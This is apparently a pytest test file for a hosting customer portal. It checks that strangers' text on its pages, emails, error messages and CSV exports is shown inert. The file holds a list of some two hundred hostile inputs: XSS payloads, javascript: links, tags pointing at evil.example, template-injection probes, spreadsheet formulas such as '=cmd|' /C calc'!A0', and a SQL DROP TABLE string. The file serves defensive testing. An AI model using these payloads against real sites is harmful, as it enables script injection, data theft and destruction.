"""Text that wants to be more than text, in every place where strangers' text is shown.

A page full of it must be built of the very elements and attributes of the same page full of harmless words.
"""

import re
from collections import Counter
from collections.abc import Callable, Iterable
from functools import cache, partial
from html import unescape
from html.parser import HTMLParser
from itertools import product
from typing import Any
from uuid import uuid4

import pytest
from django.utils.http import urlencode
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from portal.models import ServiceCommand
from portal.pages import exports
from portal.pages.foreign_html import harmless as cleaned
from tests.lengths import length
from tests.portal.test_csv import DANGEROUS
from ultahost_api.models import Domain, Invoice, Operation, Service
from ultahost_api.sandbox import Fault

HANDLERS = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationend",
    "ONpointerup",
)
BREAKS = ("", '">', "'>", '"', "' ", "</td>", "</title>", "</textarea>", "--><!--", "]]>")
TAGS = ("<img src=x {}=alert(1)>", "<svg/{}=alert(1)>")
LINKS = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)"),
    *("javascript&colon;alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)"),
    *("data:image/svg+xml;base64,PHN2Zz4=", "//evil.example", "https:evil.example", "\\\\evil.example"),
)
HOSTILE = [
    *(before + tag.format(handler) for before, tag, handler in product(BREAKS, TAGS, HANDLERS)),
    *LINKS,
    *(f'<a href="{link}">x</a>' for link in LINKS),
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    '" style="position:fixed;inset:0',
    '" autofocus onfocus="alert(1)',
    "' autofocus onfocus='alert(1)",
    "` onmouseover=alert(1) `",
    "<form action=//evil.example><input name=password>",
    "<button formaction=javascript:alert(1)>x",
    '" hx-get="https://evil.example" hx-trigger="load',
    '<div data-copy="x" hx-on:click="alert(1)">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&amp;lt;b&amp;gt;",
    "<!--#exec cmd='id'-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<b\x00>x</b>",
    "\x00<script>\x00alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "\u202e<txt.exe>\u2066\u2069\u200b\ufeff",
    "a\u2028b\u2029c\x85d\x0be",
    "\ud7ff\ufffe\U0010ffff\u0301\u0301\u0301",
    "<ſcript>alert(1)</ſcript>",
    "﹤b﹥ ‹b› «b»",
    "{{ 7|add:7 }}",
    "{% load static %}{% csrf_token %}",
    "{{ request.user.password }}",
    "{# comment #}{% comment %}",
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "%(title)s %s %d {0} {title!r}",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "＝1＋1",
    "'; DROP TABLE portal_user; --",
]
TEMPLATES = [text for text in HOSTILE if "{" in text]


def chunks(longest: int) -> list[str]:
    """The corpus in few strings."""
    found = [""]
    for text in HOSTILE:
        if len(found[-1]) + len(text) >= longest:
            found.append("")
        found[-1] += f" {text}"
    return [text.strip(" ") for text in found]


ALL_OF_IT = [*chunks(250), *TEMPLATES, *LINKS]
FORMULAS = [text for text in HOSTILE if text.startswith(DANGEROUS)]
ACTIVE = re.compile(r"on.*|style|srcdoc|formaction|hx-.*|action", re.IGNORECASE)
OURS = re.compile(r"/(?![/\\])|[?#]|$")  # a link into the portal


def harmless(text: str) -> str:
    """As long and as many words, and nothing in it."""
    return re.sub(r"\w+", "word", re.sub(r"[^\w\s]|[\x00-\x1f]", "x", text)) or "word"


VOID = {"br", "hr", "img", "input", "link", "meta"}


class Skeleton(HTMLParser):
    """A page without its text: how often which element with which attributes; and what could act.

    Each element is closed before the one around it.
    """

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: Counter[tuple[str, ...]] = Counter()
        self.active: set[tuple[str, str]] = set()
        self.text: list[str] = []
        self.open: list[str] = []
        self.feed(html)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag not in VOID:
            self.handle_endtag(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag, f"</{tag}> closes something else"

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements[tag, *sorted({name for name, _ in attrs if not name.startswith("aria-")})] += 1
        if tag not in VOID:
            self.open.append(tag)
        for name, value in attrs:
            leads_out = name in {"href", "src", "data", "xlink:href"} and not OURS.match(value or "")
            if leads_out or (ACTIVE.fullmatch(name) and not name.startswith("hx-")):
                self.active.add((name, value or ""))

    def handle_decl(self, decl: str) -> None:
        assert decl.lower() == "doctype html"

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


UUID = re.compile(r"[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}")


def assert_alike(plain: str, wild: str) -> Skeleton:
    ours, theirs = Skeleton(plain), Skeleton(wild)
    assert set(theirs.elements) - set(ours.elements) == set()  # chips differ in number: statuses that occur
    ids = [{(name, UUID.sub("…", value)) for name, value in one.active} for one in (ours, theirs)]
    assert ids[1] - ids[0] == set()
    return theirs


def said(skeleton: Skeleton) -> str:
    return " ".join(" ".join(skeleton.text).split())


Shown = Callable[[str], str]


class Twins:
    """Two accounts, rows of one being hostile where those of the other are harmless."""

    def __init__(self, visit: Any, people: Any, add_key: Any, sandbox: Any) -> None:
        self.sandbox = sandbox
        self.browsers, self.accounts, self.keys = [], [], []
        for name, account in (("Alma", "word"), ("Wilma", HOSTILE[5])):
            self.accounts.append(sandbox.add_account(account, "EUR"))
            user = people.member(name)
            self.keys.append(add_key(user, self.accounts[-1], account))
            self.browsers.append(visit(user))

    def add(self, noun: str, texts: Iterable[str], fields: Callable[[str], dict[str, Any]]) -> None:
        for text in texts:
            for account, written in zip(self.accounts, (harmless, str), strict=True):
                account.add(noun, **fields(written(text)))

    def pages(self, path: str) -> list[str]:
        """``{account}`` is each one's own; ``{row}`` what ``rows`` gave."""
        pages = [
            browser.get(path.format(account=key.account_id))
            for browser, key in zip(self.browsers, self.keys, strict=True)
        ]
        assert {page.status for page in pages} == {200}
        return [page.html for page in pages]

    def assert_alike(self, path: str) -> Skeleton:
        return assert_alike(*self.pages(path))

    def assert_details_alike(self, model: Any, path: str, limit: int) -> None:
        rows = [model.objects.filter(account=key.account).order_by("remote_id") for key in self.keys]
        for pair in list(zip(*rows, strict=True))[:limit]:
            plain, wild = (
                browser.get(path.format(row.pk)) for browser, row in zip(self.browsers, pair, strict=True)
            )
            assert_alike(plain.html, wild.html)


@pytest.fixture
def twins(visit, people, add_key, sandbox):
    return Twins(visit, people, add_key, sandbox)


def test_it_knows_two_hundred_ways():
    assert len(set(HOSTILE)) >= 200
    assert len(TEMPLATES) >= 5


# Our copies

CACHED: dict[str, tuple[Any, Callable[[str], dict[str, Any]]]] = {
    "services": (
        Service,
        lambda text: {
            **dict.fromkeys(("domain", "product_name", "billingcycle", "status"), text),
            **dict.fromkeys(("dedicatedip", "assignedips", "ns1", "ns2"), text),
        },
    ),
    "invoices": (
        Invoice,
        lambda text: {
            **dict.fromkeys(("invoicenum", "status", "paymentmethod", "notes"), text),
            "items": [{"id": 1, "description": text, "amount": "1.00", "taxed": 0}],
        },
    ),
    "domains": (
        Domain,
        lambda text: dict.fromkeys(
            ("domain", "status", "registrar", "type", "paymentmethod", "additionalnotes"), text
        ),
    ),
}


@pytest.mark.parametrize("noun", CACHED)
def test_it_shows_strangers_text_of_our_copies_as_text(twins, read_everything, noun):
    model, fields = CACHED[noun]
    twins.add(noun, ALL_OF_IT, fields)
    read_everything()

    shown = "".join(said(twins.assert_alike(f"/{noun}/?size=100&page={page}")) for page in (1, 2))
    assert all(text in shown for text in TEMPLATES)
    twins.assert_details_alike(model, f"/{noun}/{{}}/", limit=12)
    twins.assert_alike("/")


@pytest.mark.parametrize("noun", CACHED)
def test_it_exports_strangers_text_as_no_formula(twins, read_everything, noun):
    twins.add(noun, FORMULAS, CACHED[noun][1])
    read_everything()

    lines = twins.browsers[1].get(f"/{noun}.csv").csv()

    assert len(lines) >= len(FORMULAS)
    assert [cell for line in lines for cell in line if cell.startswith(DANGEROUS)] == []


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=12), st.sampled_from(["", *DANGEROUS]))
@settings(
    max_examples=length(1_000, drill=10_000, long=100_000),
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)
def test_it_begins_no_cell_with_a_formula(text, start):
    cell = exports.cell(start + text)

    assert not cell.startswith(DANGEROUS)
    assert cell.replace("'", "") == (start + text).replace("'", "")  # one may stand within it, too


@pytest.mark.parametrize(
    "path", ["/services/", "/invoices/", "/domains/", "/orders/", "/emails/", "/activity/"]
)
def test_it_gives_a_query_string_back_as_text(twins, path):
    browser = twins.browsers[0]

    @cache
    def asked(names: tuple[str, ...], value: str) -> str:
        return browser.get(f"{path}?{urlencode(dict.fromkeys(names, value))}").html

    for text in chunks(400):
        for names in (("q",), ("status",), ("account", "sort", "page", "size", "since", "renew")):
            plain = "word" + "\0" * ("\0" in text)  # which is refused in words
            assert_alike(asked(names, plain), asked(names, text))


# What is read live

PERSON = (
    "firstname",
    "lastname",
    "companyname",
    "address1",
    "address2",
    "city",
    "state",
    "postcode",
    "email",
)
LIVE: dict[str, tuple[str, Callable[[str], dict[str, Any]]]] = {
    "orders": ("orders", lambda text: dict.fromkeys(("ordernum", "paymentmethod", "status", "notes"), text)),
    "quotes": (
        "quotes",
        lambda text: {
            **dict.fromkeys(("subject", "stage", "proposal", "customernotes"), text),
            "items": [{"id": 1, "description": text, "quantity": text, "unitprice": "1.00", "discount": "0"}],
        },
    ),
    "contacts": ("contacts", lambda text: dict.fromkeys((*PERSON, "country", "phonenumber", "tax_id"), text)),
    "emails": (
        "emails",
        lambda text: (
            dict.fromkeys(("subject", "to", "cc", "bcc", "failure_reason"), text) | {"attachments": [text]}
        ),
    ),
}


@pytest.mark.parametrize("noun", LIVE)
def test_it_shows_strangers_text_that_is_read_live_as_text(twins, read_everything, noun):
    path, fields = LIVE[noun]
    twins.add(noun, ALL_OF_IT[-50:], fields)
    read_everything()

    shown = said(twins.assert_alike(f"/{path}/?live=1&size=100"))
    assert "{{7*7}}${7*7}" in shown
    for pair in list(zip(*(account.rows(noun) for account in twins.accounts), strict=True))[::4]:
        plain, wild = (
            browser.get(f"/{path}/{key.account_id}/{number}/?live=1")
            for browser, key, number in zip(twins.browsers, twins.keys, pair, strict=True)
        )
        assert_alike(plain.html, wild.html)


def test_it_shows_payment_methods_and_the_profile_as_text(twins):
    fields = ("description", "bank_name", "gateway_name", "type", "contact_type")
    twins.add("payment_methods", HOSTILE[::3], lambda text: dict.fromkeys(fields, text))
    twins.assert_alike("/payment-methods/?live=1")

    for text in chunks(250)[::3]:
        for account, written in zip(twins.accounts, (harmless, str), strict=True):
            account.profile.update(
                dict.fromkeys((*PERSON, "country", "phonenumber", "status"), written(text))
            )
        twins.assert_alike("/accounts/{account}/?live=1")
    twins.assert_alike("/keys/")
    twins.assert_alike("/accounts/")


def test_it_keeps_nothing_but_text_and_links_of_a_letter(twins):
    document = " ".join(HOSTILE)
    (email,) = twins.accounts[1].add_emails(message=document)
    (news,) = twins.sandbox.add_announcements(title=document[:250], announcement=document)
    browser = twins.browsers[1]
    letters = (
        f"/emails/{twins.keys[1].account_id}/{email['id']}/text/",
        f"/announcements/{news['id']}/text/",
    )
    plain = Skeleton(browser.get(f"/emails/{twins.keys[1].account_id}/999999/text/").html)

    for page in map(browser.get, letters):
        found = Skeleton(page.html)
        new = {tag for tag, *_ in found.elements} - {tag for tag, *_ in plain.elements}
        assert new <= {"a", "b", "p", "table", "td", "title"}
        assert {name for tag, *names in found.elements for name in names if tag == "a"} <= {
            *("href", "target", "rel")
        }
        assert {value.split(":")[0] for _, value in found.active} <= {"https", "mailto"}
        policy = page.headers["Content-Security-Policy"]
        assert "default-src 'none'" in policy
        assert "sandbox" in policy
        assert "allow-scripts" not in policy
    for text in HOSTILE:
        assert {value.split(":")[0] for _, value in Skeleton(cleaned(text)).active} <= {"https", "mailto"}
    assert all(text in unescape(cleaned(text)) for text in TEMPLATES if "<" not in text)
    twins.assert_alike("/announcements/?live=1")


# What was typed, and what Ultahost says to it


def test_it_quotes_ultahost_as_text(twins, read_everything, sandbox):
    twins.add("services", ["word"], lambda text: {"domain": text})
    read_everything()
    reboot = ServiceCommand.objects.create(name="reboot", words="Restart")
    told = []
    for browser, key, written in zip(twins.browsers, twins.keys, (harmless, str), strict=True):
        service = Service.objects.get(account=key.account)
        told.append([])
        for text in chunks(280):
            for fault in (
                Fault.status(400, written(text)),
                Fault.edit(partial(dict, message=written(text))),
            ):
                sandbox.faults.add(fault, action="service_module_custom")
                path = f"/services/{service.pk}/run/{reboot.pk}/"
                page = browser.post(path, browser.get(path).hidden)
                told[-1].append((browser.follow(page) if page.leads_to else page).html)

    for plain, wild in zip(*told, strict=True):
        assert_alike(plain, wild)
    assert any("{{7*7}}${7*7}" in unescape(html) for html in told[1])
    assert Operation.objects.count() == 2 * len(told[0])
    twins.assert_alike("/activity/")
    lines = twins.browsers[1].get("/activity.csv").csv()
    assert [cell for line in lines for cell in line if cell.startswith(DANGEROUS)] == []


def test_it_gives_what_was_typed_back_as_text(twins, read_everything):
    twins.add("domains", ["word"], lambda text: {"domain": text})
    read_everything()
    domain = Domain.objects.get(account=twins.keys[0].account)
    browser = twins.browsers[0]
    forms = {
        f"/domains/{domain.pk}/nameservers/": ("ns1", "ns2", "ns3"),
        f"/contacts/{domain.account_id}/add/": (*PERSON, "country"),
        "/keys/add/": ("label",),
    }

    @cache
    def refused(path: str, names: tuple[str, ...], value: str) -> str:
        page = browser.post(path, dict.fromkeys(names, value) | {"form_token": uuid4()})
        assert page.status == 422
        return page.html

    longest = "x " * 125  # refused in as many words as a text can be
    for (path, names), text in product(forms.items(), chunks(250)):
        assert_alike(refused(path, names, longest), refused(path, names, text))
